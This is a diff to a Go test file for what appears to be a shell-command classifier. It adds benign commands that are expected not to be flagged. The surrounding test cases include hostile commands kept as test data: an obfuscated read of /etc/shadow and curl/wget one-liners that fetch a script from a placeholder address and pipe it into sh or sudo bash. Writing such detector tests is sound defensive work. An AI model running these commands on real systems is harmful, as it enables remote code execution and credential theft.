@@ -52,6 +52,7 @@ func TestClassify(t *testing.T) {
 		{"echo 'cat /etc/shadow' >> notes.txt", nil},
 		{"kubectl get pods", nil},
 		{"ps aux | grep password", nil},
+		{"grep -rn token src", nil},
 		{"find . -name '*.go'", nil},
 		// Quotes, escapes and expansions.
 		{`c'a't /etc/sh""adow`, []Class{c}},
@@ -111,6 +112,8 @@ func TestClassify(t *testing.T) {
 		{"chmod +x run.sh", nil},
 		{"docker run -v /srv:/srv alpine", nil},
 		{"cat /etc/sudoers", nil},
+		{"sudo -u postgres psql", nil},
+		{"export LD_LIBRARY_PATH=/opt/lib", nil},
 		// Download and run.
 		{"curl -s http://198.51.100.9/x.sh | sh", []Class{d}},
 		{"wget -qO- http://198.51.100.9/x | sudo bash -s -- a", []Class{d}},
@@ -147,6 +150,8 @@ func TestClassify(t *testing.T) {
 		{"cat /etc/passwd", nil},
 		{"cat ~/.ssh/authorized_keys", nil},
 		{"systemctl status x", nil},
+		{"systemctl daemon-reload", nil},
+		{"sudo vim /etc/nginx/nginx.conf", nil},
 		{"passwd -S eve", nil},
 		{"tctl users ls", nil},
 		// Lateral movement.
